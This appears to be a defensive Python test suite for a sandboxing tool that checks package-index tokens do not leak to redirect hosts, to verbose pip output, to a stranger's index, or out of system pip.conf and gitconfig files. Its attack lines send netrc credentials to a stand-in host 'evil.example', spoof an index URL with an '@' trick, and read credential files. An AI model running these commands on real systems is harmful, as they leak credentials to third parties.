#!/usr/bin/env -S python3 -B
# SPDX-License-Identifier: MIT
"""The token of a `[[python.index]]`: where it does not go, and what does not hold it; and passwords in the settings of the machine."""
from attack import Project, cover
from index_attack import FILE, GET, PIP, prepare, with_token
from index_service import COMPANY, EVIL, PUBLIC, URL
from tap import test
from vectors import attack, main, seed


@test("B14: an index that sends tools elsewhere sends no token there")
@attack("index-redirect", "B14", "a redirect from the index to another host, an absolute link, an address that looks like it")
def _(h):
    p, index, token = prepare(
        h,
        redirects={"moved": f"{EVIL}/simple/moved/"},
        pages={"linked": f'<a href="{EVIL}/files/linked-1.0-py3-none-any.whl">linked-1.0-py3-none-any.whl</a>'},
    )
    line = "".join(f"{PIP} download --no-input -d /tmp/got {name} 2>&1\n" for name in ("moved", "linked"))
    line += f"{PIP} download --no-input -d /tmp/got --index-url https://pypi.acme.example@evil.example/simple/ other 2>&1; curl -sLn --cacert $PIP_CERT {COMPANY}/to/evil.example/x; curl -sn --cacert $PIP_CERT {EVIL}/y\n"
    # Written by hand: one password for all hosts.
    h.write("~/.netrc", f"default login x password {token}\n", 0o600)
    h.run(["sh", "-c", line], env={"PIP_INDEX_URL": URL}, cwd="~/code/demo")
    assert EVIL in with_token(index, token), index.given()
    index.forget()
    p.entered(line)
    asked = {path.partition("?")[0] for path in index.asked(EVIL)}
    assert {"/simple/moved/", "/files/linked-1.0-py3-none-any.whl", "/simple/other/", "/x", "/y"} <= asked, asked  # it was tried
    assert with_token(index, token) == {COMPANY}, index.given()


@test("B8: no output of pip, however much it is asked to say, holds the token")
@attack("index-verbose", "B8", "the token in what pip prints: -vvv, debug, config, a report, a log")
def _(h):
    p, index, token = prepare(h)
    say = f"{PIP} -vvv download --no-input --log /tmp/log -d /tmp/got acme-money; {PIP} config -v list; {PIP} config debug; {PIP} debug --verbose; {PIP} -vvv install --dry-run -q --report - " \
          f"--break-system-packages acme-money; {PIP} cache info; cat /tmp/log; env | grep -v ^ACME_TOKEN="  # fmt: skip
    r = p.predecessor(say, env={"PIP_INDEX_URL": f"https://dev:{token}@pypi.acme.example/simple/"})
    assert token in r.out, r
    seed("index-verbose", True)
    r = p.entered(say + " 2>&1")
    assert "acme_money" in r.out and token not in r.out + r.err, r
    assert token not in str(h.tree("~/.local")) + p.psbc("build", "--print", "policy").out + p.psbc("trust", "--show").out


@test("E1: a file that sends a token to a stranger's index says so before anything is asked")
@attack("index-stranger", "E1", "a clone whose index is a stranger's, with a token of another service; an address with a password in it")
def _(h):
    _, index, token = prepare(h, config="")
    text = f'tokens = ["HF_TOKEN"]\n[[python.index]]\nname = "acme"\nurl = "{EVIL}/simple/"\ntoken = "HF_TOKEN"\n'
    p = Project(h, text, trusted=False)
    p.refuses("psbc trust", status=3, run=PIP + " download -d . acme-money; touch ran")
    r = p.psbc("trust")  # nobody is there to ask
    assert r.status == 3 and f"+ index name=acme url={EVIL}/simple/ token=HF_TOKEN" in r.out + r.err, r
    assert "`HF_TOKEN` is a token of Hugging Face Hub, and goes to `evil.example`" in r.out + r.err, r
    assert not index.requests()
    h.write(p.file, f'name = "demo"\n[[python.index]]\nname = "acme"\nurl = "https://dev:{token}@evil.example/simple/"\n')
    r = p.psbc("trust", "--yes")
    assert r.status == 2 and "PSB012" in r.err and token not in r.out + r.err, r


@test("B3: a password in the machine's own pip.conf or gitconfig is not readable inside, and the index is asked all the same")
@attack("system-settings", "B3", "a password in /etc/pip.conf and /etc/gitconfig")
def _(h):
    _, index, token = prepare(h, config="")
    cover("/etc/pip.conf", f"[global]\nindex-url = https://dev:{token}@pypi.acme.example/simple/\ntimeout = 7\n")
    cover("/etc/gitconfig", f'[url "https://x:{token}@github.com/"]\n\tinsteadOf = https://github.com/\n[alias]\n\tst = status\n')
    look = "cat /etc/pip.conf /etc/gitconfig /etc/uv/uv.toml /etc/xdg/pip/pip.conf; git config --system --list; git config --list"
    p = Project(h)
    assert token in p.predecessor(look).out
    seed("system-settings", True)
    r = p.entered(look + "; git st; env")
    assert token not in r.out + r.err and "alias.st=status" in r.out and "XDG_CONFIG_DIRS=/etc/xdg:" in r.out, r
    assert "passwords in `/etc/pip.conf` stay outside" in r.err and "`/etc/gitconfig` holds what looks like a secret" in r.err, r
    # Never the public one instead: the company's refuses, because its password is outside.
    index.forget()
    r = p.entered(f"{PIP} config list; {GET}")
    assert "timeout='7'" in r.out and "acme_money" not in r.out and index.asked(COMPANY) and not index.asked(PUBLIC) and not with_token(index, token), (str(r), index.given())
    # With an index of the project the machine's is not asked, and the token is the project's.
    p = Project(h, FILE)
    index.forget()
    r = p.entered(GET + "; cat ~/.config/psbc/xdg/pip/pip.conf")
    assert "acme_money-1.0" in r.out and index.given() == {COMPANY: {"__token__:" + token}}, (str(r), index.given())
    # Who accepts it sees it.
    h.write("~/.config/psbc/config.toml", 'accept_secrets = ["/etc/pip.conf", "/etc/gitconfig"]\n[tokens.ACME_TOKEN]\nfrom = "file:~/.secrets/t"\n')
    assert p.entered("cat /etc/pip.conf /etc/gitconfig").out.count(token) == 2
    # What cannot be taken out of it refuses the entry.
    h.write("~/.config/psbc/config.toml")
    p = Project(h)
    cover("/etc/pip.conf", "[global]\nindex-url = https://h/ghp_0123456789abcdefghijABCDEFGHIJ012345/simple/\n")
    p.refuses("PSB412", "/etc/pip.conf", "public index")


main()
